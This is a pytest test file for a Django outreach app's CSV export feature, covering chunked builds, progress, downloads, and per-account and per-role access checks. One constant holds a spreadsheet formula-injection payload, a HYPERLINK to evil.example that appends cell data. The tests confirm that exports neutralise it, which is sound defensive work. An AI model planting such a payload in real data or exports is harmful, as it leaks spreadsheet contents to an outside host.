"""CSV exports (campaign results, message log, contacts): built chunk by chunk by a task
(its body run inline here), progress while it builds, downloaded from the console and the
API, every cell neutralised against formula injection."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from campaigns import exports, fanout, tasks
from campaigns.models import Export, ExportPart
from messaging.queue import dispatch
from outreach.models import AuditEntry
from outreach.services import create_staff_user
from outreach.testing import assert_matches_schema

from . import factories as f

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def campaign(api, account):
    f.lines(account, 1)
    lst = f.audience(account, ["+15125550401", "+15125550402", "+15125550405"])
    account.contacts.filter(e164_number="+15125550401").update(first_name=EVIL)
    body = {"name": "Spring", "body": "Hi {first_name|there}", "list_ids": [str(lst.pk)],
            "window_start": "00:00", "window_end": "00:00"}
    cid = api.post("/api/v1/campaigns", body, format="json").json()["id"]
    api.post(f"/api/v1/campaigns/{cid}/start")
    fanout.run(cid)
    dispatch.run_chunk()
    return cid


def rows(content: bytes | str) -> list[dict]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(text)))


def download(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


def test_campaign_results_build_in_chunks_with_progress_and_download(api, campaign, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 2)
    response = api.post("/api/v1/exports", {"kind": "campaign_results", "campaign_id": campaign}, format="json")
    assert response.status_code == 202, response.content
    assert_matches_schema(response, "/api/v1/exports")
    export = response.json()
    assert (export["status"], export["total"], export["processed"], export["download_url"]) == ("pending", 3, 0, None)
    assert api.get(f"/api/v1/exports/{export['id']}/download").status_code == 409

    assert exports.run_chunk(export["id"]) is True  # one chunk of two: the task's first step
    half = api.get(f"/api/v1/exports/{export['id']}")
    assert_matches_schema(half, "/api/v1/exports/{id}")
    assert (half.json()["status"], half.json()["processed"], half.json()["percent"]) == ("running", 2, 66)
    tasks.run_export(export["id"])
    done = api.get(f"/api/v1/exports/{export['id']}").json()
    assert done["status"] == "done" and done["processed"] == 3 and done["percent"] == 100
    assert ExportPart.objects.filter(export_id=export["id"]).count() == 2

    found = rows(download(api, done["download_url"]))
    by_phone = {r["phone"]: r for r in found}
    assert set(by_phone) == {"+15125550401", "+15125550402", "+15125550405"}  # + phones stay as they are
    assert by_phone["+15125550401"]["first_name"] == "'" + EVIL  # neutralised
    assert by_phone["+15125550402"]["outcome"] == "failed" and by_phone["+15125550402"]["message_status"] == "failed"
    assert by_phone["+15125550405"]["opted_out"] == "yes" and by_phone["+15125550405"]["replied_at"] == ""


def test_message_log_and_contacts(api, campaign):
    for kind, expect in [("messages", "+15125550405"), ("contacts", "+15125550401")]:
        export = api.post("/api/v1/exports", {"kind": kind}, format="json").json()
        tasks.run_export(export["id"])
        found = rows(download(api, f"/api/v1/exports/{export['id']}/download"))
        assert any(expect in r.values() for r in found), kind
    messages = rows(download(api, f"/api/v1/exports/{Export.objects.get(kind='messages').pk}/download"))
    assert {r["direction"] for r in messages} == {"outbound", "inbound"}  # the STOP reply is in the log
    contacts = rows(download(api, f"/api/v1/exports/{Export.objects.get(kind='contacts').pk}/download"))
    assert {r["first_name"] for r in contacts} >= {"'" + EVIL}


def test_bad_requests_name_every_field_and_exports_are_the_accounts(api, account, campaign, other_account, api_for):
    bad = api.post("/api/v1/exports", {"kind": "everything"}, format="json")
    assert bad.status_code == 422 and set(bad.json()["errors"]) == {"kind"}
    missing = api.post("/api/v1/exports", {"kind": "campaign_results"}, format="json")
    assert missing.status_code == 422 and set(missing.json()["errors"]) == {"campaign_id"}
    other = api_for(other_account, ["campaigns"])
    theirs = other.post("/api/v1/exports", {"kind": "campaign_results", "campaign_id": campaign}, format="json")
    assert theirs.status_code == 422 and "campaign_id" in theirs.json()["errors"]
    wrong = api.post("/api/v1/exports", {"kind": "contacts", "campaign_id": campaign}, format="json")
    assert wrong.status_code == 422 and set(wrong.json()["errors"]) == {"campaign_id"}

    mine = api.post("/api/v1/exports", {"kind": "contacts"}, format="json").json()
    tasks.run_export(mine["id"])
    assert other.get(f"/api/v1/exports/{mine['id']}").status_code == 404
    assert other.get(f"/api/v1/exports/{mine['id']}/download").status_code == 404
    assert other.get("/api/v1/exports").json()["total"] == 0
    listing = api.get("/api/v1/exports")
    assert_matches_schema(listing, "/api/v1/exports")
    assert listing.json()["total"] == 1
    assert api_for(account, ["contacts"]).get(f"/api/v1/exports/{mine['id']}").status_code == 403


def test_the_console_builds_and_downloads_exports(account, campaign):
    client = Client()
    client.force_login(create_staff_user(account, "mia", "pw-for-tests-123", "manager"))
    response = client.post("/campaigns/exports/", {"kind": "contacts", "campaign_id": ""})
    export = Export.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/campaigns/exports/{export.pk}/"
    page = client.get(response["Location"]).content.decode()
    assert 'hx-trigger="every 2s"' in page and "0 of 3 rows written" in page
    tasks.run_export(str(export.pk))
    page = client.get(f"/campaigns/exports/{export.pk}/").content.decode()
    assert 'data-testid="export-download"' in page and "hx-trigger" not in page
    assert len(rows(download(client, f"/campaigns/exports/{export.pk}/download"))) == 3
    assert AuditEntry.objects.get(action="export.created").detail == {"kind": "contacts", "rows": 3}

    bad = client.post("/campaigns/exports/", {"kind": "campaign_results", "campaign_id": ""})
    assert bad.status_code == 422 and "campaign_id" in bad.context["form"].errors
    client.post(f"/campaigns/{campaign}/export")
    assert Export.objects.filter(kind="campaign_results", campaign_id=campaign).exists()
    assert "Spring" in client.get("/campaigns/exports/").content.decode()


def test_console_exports_are_the_accounts_and_managers(account, other_account, campaign):
    """Another account's export is a 404 in the console (page and download); agents and
    viewers cannot ask for one, see one or download one (outreach/roles.py)."""
    export = exports.create(account, "contacts", requested_by="mia")
    tasks.run_export(str(export.pk))
    stranger = Client()
    stranger.force_login(create_staff_user(other_account, "otto", "pw-for-tests-123", "owner"))
    assert stranger.get(f"/campaigns/exports/{export.pk}/").status_code == 404
    assert stranger.get(f"/campaigns/exports/{export.pk}/download").status_code == 404
    for role in ("agent", "viewer"):
        client = Client()
        client.force_login(create_staff_user(account, f"p-{role}", "pw-for-tests-123", role))
        assert client.get(f"/campaigns/exports/{export.pk}/download").status_code == 403
        assert client.get("/campaigns/exports/").status_code == 403
        assert client.post("/campaigns/exports/", {"kind": "contacts"}).status_code == 403
    assert Export.objects.count() == 1
